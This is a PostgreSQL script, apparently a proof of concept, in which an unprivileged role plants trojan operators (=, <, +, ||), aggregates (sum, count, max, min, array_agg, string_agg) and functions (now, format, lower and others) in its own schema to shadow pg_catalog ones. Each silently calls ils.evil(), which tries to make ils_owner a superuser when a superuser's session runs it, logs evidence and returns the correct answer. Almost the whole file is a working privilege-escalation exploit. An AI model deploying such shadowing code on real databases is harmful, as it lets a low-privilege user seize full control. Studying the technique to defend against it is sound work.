-- Run by ils_owner (not a superuser) in its own schema ils: operators and
-- functions that shadow pg_catalog's for a session whose search_path puts
-- ils before pg_catalog.  Each one runs the payload ils.evil() and then
-- returns the right answer, so that nothing visibly breaks.  The payload
-- tries to make ils_owner a superuser (it can only succeed when it runs as
-- a superuser) and records as whom it ran.

CREATE FUNCTION ils.evil() RETURNS boolean
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
DECLARE
    s boolean;
BEGIN
    BEGIN
        EXECUTE 'ALTER ROLE ils_owner SUPERUSER';
    EXCEPTION WHEN OTHERS THEN
        NULL;
    END;
    SELECT r.rolsuper INTO s FROM pg_catalog.pg_roles r
     WHERE r.rolname OPERATOR(pg_catalog.=) current_user;
    BEGIN
        INSERT INTO evidence.log_ils_owner (planted_by, ran_as, ran_as_super)
        VALUES ('ils_owner', current_user, s);
    EXCEPTION WHEN OTHERS THEN
        NULL;
    END;
    IF s THEN
        RAISE WARNING 'EVIDENCE planted_by=ils_owner ran_as=% super=%', current_user, s;
    END IF;
    RETURN true;
END
$$;

DO $gen$
DECLARE
    t record;
    o record;
    n integer := 0;
    fname text;
BEGIN
    -- (left, right, result of + and -)
    FOR t IN SELECT * FROM (VALUES
                ('bigint', 'bigint', 'bigint'), ('integer', 'integer', 'integer'),
                ('numeric', 'numeric', 'numeric'), ('text', 'text', NULL),
                ('bigint', 'integer', 'bigint'), ('integer', 'bigint', 'bigint')) v(l, r, arith)
    LOOP
        FOR o IN SELECT * FROM (VALUES ('=', 'boolean'), ('<>', 'boolean'), ('<', 'boolean'),
                                       ('>', 'boolean'), ('<=', 'boolean'), ('>=', 'boolean'),
                                       ('+', t.arith), ('-', t.arith),
                                       ('||', CASE WHEN t.l = 'text' AND t.r = 'text' THEN 'text' END)) v(op, res)
                  WHERE v.res IS NOT NULL
        LOOP
            n := n + 1;
            fname := 'trojan_op_' || n;
            EXECUTE format('CREATE FUNCTION ils.%I(%s, %s) RETURNS %s LANGUAGE plpgsql AS '
                           '$f$ BEGIN PERFORM ils.evil(); RETURN $1 OPERATOR(pg_catalog.%s) $2; END $f$',
                           fname, t.l, t.r, o.res, o.op);
            EXECUTE format('CREATE OPERATOR ils.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = ils.%I)',
                           o.op, t.l, t.r, fname);
        END LOOP;
    END LOOP;

    -- aggregates: sum, count, max, min, array_agg
    FOR t IN SELECT * FROM (VALUES ('bigint', 'numeric'), ('integer', 'bigint'),
                                   ('numeric', 'numeric')) v(arg, res)
    LOOP
        n := n + 1;
        fname := 'trojan_sum_' || n;
        EXECUTE format('CREATE FUNCTION ils.%I(s %s, v %s) RETURNS %s LANGUAGE plpgsql AS '
                       '$f$ BEGIN PERFORM ils.evil(); IF v IS NULL THEN RETURN s; END IF; '
                       'IF s IS NULL THEN RETURN v; END IF; '
                       'RETURN s OPERATOR(pg_catalog.+) v; END $f$', fname, t.res, t.arg, t.res);
        EXECUTE format('CREATE AGGREGATE ils.sum(%s) (SFUNC = ils.%I, STYPE = %s)', t.arg, fname, t.res);
    END LOOP;
    EXECUTE 'CREATE FUNCTION ils.trojan_count_star(s bigint) RETURNS bigint LANGUAGE plpgsql AS '
            '$f$ BEGIN PERFORM ils.evil(); RETURN s OPERATOR(pg_catalog.+) 1; END $f$';
    EXECUTE 'CREATE AGGREGATE ils.count(*) (SFUNC = ils.trojan_count_star, STYPE = bigint, INITCOND = 0)';
    FOR t IN SELECT * FROM (VALUES ('bigint'), ('integer'), ('numeric'), ('text'),
                                   ('timestamptz')) v(arg)
    LOOP
        n := n + 1;
        fname := 'trojan_count_' || n;
        EXECUTE format('CREATE FUNCTION ils.%I(s bigint, v %s) RETURNS bigint LANGUAGE plpgsql AS '
                       '$f$ BEGIN PERFORM ils.evil(); IF v IS NULL THEN RETURN s; END IF; '
                       'RETURN s OPERATOR(pg_catalog.+) 1; END $f$', fname, t.arg);
        EXECUTE format('CREATE AGGREGATE ils.count(%s) (SFUNC = ils.%I, STYPE = bigint, INITCOND = 0)',
                       t.arg, fname);
        FOR o IN SELECT * FROM (VALUES ('max', '>'), ('min', '<')) v(agg, op)
        LOOP
            n := n + 1;
            fname := 'trojan_' || o.agg || '_' || n;
            EXECUTE format('CREATE FUNCTION ils.%I(s %s, v %s) RETURNS %s LANGUAGE plpgsql AS '
                           '$f$ BEGIN PERFORM ils.evil(); IF v IS NULL THEN RETURN s; END IF; '
                           'IF s IS NULL OR v OPERATOR(pg_catalog.%s) s THEN RETURN v; END IF; '
                           'RETURN s; END $f$', fname, t.arg, t.arg, t.arg, o.op);
            EXECUTE format('CREATE AGGREGATE ils.%s(%s) (SFUNC = ils.%I, STYPE = %s)',
                           o.agg, t.arg, fname, t.arg);
        END LOOP;
        n := n + 1;
        fname := 'trojan_array_agg_' || n;
        EXECUTE format('CREATE FUNCTION ils.%I(s %s[], v %s) RETURNS %s[] LANGUAGE plpgsql AS '
                       '$f$ BEGIN PERFORM ils.evil(); '
                       'RETURN pg_catalog.array_append(s, v); END $f$', fname, t.arg, t.arg, t.arg);
        EXECUTE format('CREATE AGGREGATE ils.array_agg(%s) (SFUNC = ils.%I, STYPE = %s[])',
                       t.arg, fname, t.arg);
        EXECUTE format('CREATE FUNCTION ils.unnest(a %s[]) RETURNS SETOF %s LANGUAGE plpgsql AS '
                       '$f$ BEGIN PERFORM ils.evil(); RETURN QUERY SELECT * FROM pg_catalog.unnest(a); END $f$',
                       t.arg, t.arg);
    END LOOP;
END
$gen$;

-- scalar functions with their usual signatures
CREATE FUNCTION ils.concat_ws(sep text, VARIADIC parts text[]) RETURNS text LANGUAGE plpgsql AS
    $f$ BEGIN PERFORM ils.evil(); RETURN pg_catalog.array_to_string(parts, sep); END $f$;
CREATE FUNCTION ils.now() RETURNS timestamptz LANGUAGE plpgsql STABLE AS
    $f$ BEGIN PERFORM ils.evil(); RETURN pg_catalog.now(); END $f$;
CREATE FUNCTION ils.statement_timestamp() RETURNS timestamptz LANGUAGE plpgsql STABLE AS
    $f$ BEGIN PERFORM ils.evil(); RETURN pg_catalog.statement_timestamp(); END $f$;
CREATE FUNCTION ils.clock_timestamp() RETURNS timestamptz LANGUAGE plpgsql AS
    $f$ BEGIN PERFORM ils.evil(); RETURN pg_catalog.clock_timestamp(); END $f$;
CREATE FUNCTION ils.format(fmt text) RETURNS text LANGUAGE plpgsql AS
    $f$ BEGIN PERFORM ils.evil(); RETURN pg_catalog.format(fmt); END $f$;
CREATE FUNCTION ils.format(fmt text, VARIADIC args text[]) RETURNS text LANGUAGE plpgsql AS
    $f$ BEGIN PERFORM ils.evil(); RETURN pg_catalog.format(fmt, VARIADIC args); END $f$;
CREATE FUNCTION ils.quote_literal(v text) RETURNS text LANGUAGE plpgsql AS
    $f$ BEGIN PERFORM ils.evil(); RETURN pg_catalog.quote_literal(v); END $f$;
CREATE FUNCTION ils.quote_ident(v text) RETURNS text LANGUAGE plpgsql AS
    $f$ BEGIN PERFORM ils.evil(); RETURN pg_catalog.quote_ident(v); END $f$;
CREATE FUNCTION ils.length(v text) RETURNS integer LANGUAGE plpgsql AS
    $f$ BEGIN PERFORM ils.evil(); RETURN pg_catalog.length(v); END $f$;
CREATE FUNCTION ils.lower(v text) RETURNS text LANGUAGE plpgsql AS
    $f$ BEGIN PERFORM ils.evil(); RETURN pg_catalog.lower(v); END $f$;
CREATE FUNCTION ils.upper(v text) RETURNS text LANGUAGE plpgsql AS
    $f$ BEGIN PERFORM ils.evil(); RETURN pg_catalog.upper(v); END $f$;
CREATE FUNCTION ils.array_to_string(a text[], sep text) RETURNS text LANGUAGE plpgsql AS
    $f$ BEGIN PERFORM ils.evil(); RETURN pg_catalog.array_to_string(a, sep); END $f$;
CREATE FUNCTION ils.string_agg_trans(s text, v text, sep text) RETURNS text LANGUAGE plpgsql AS
    $f$ BEGIN PERFORM ils.evil(); IF v IS NULL THEN RETURN s; END IF;
              IF s IS NULL THEN RETURN v; END IF; RETURN s OPERATOR(pg_catalog.||) sep OPERATOR(pg_catalog.||) v; END $f$;
CREATE AGGREGATE ils.string_agg(text, text) (SFUNC = ils.string_agg_trans, STYPE = text);
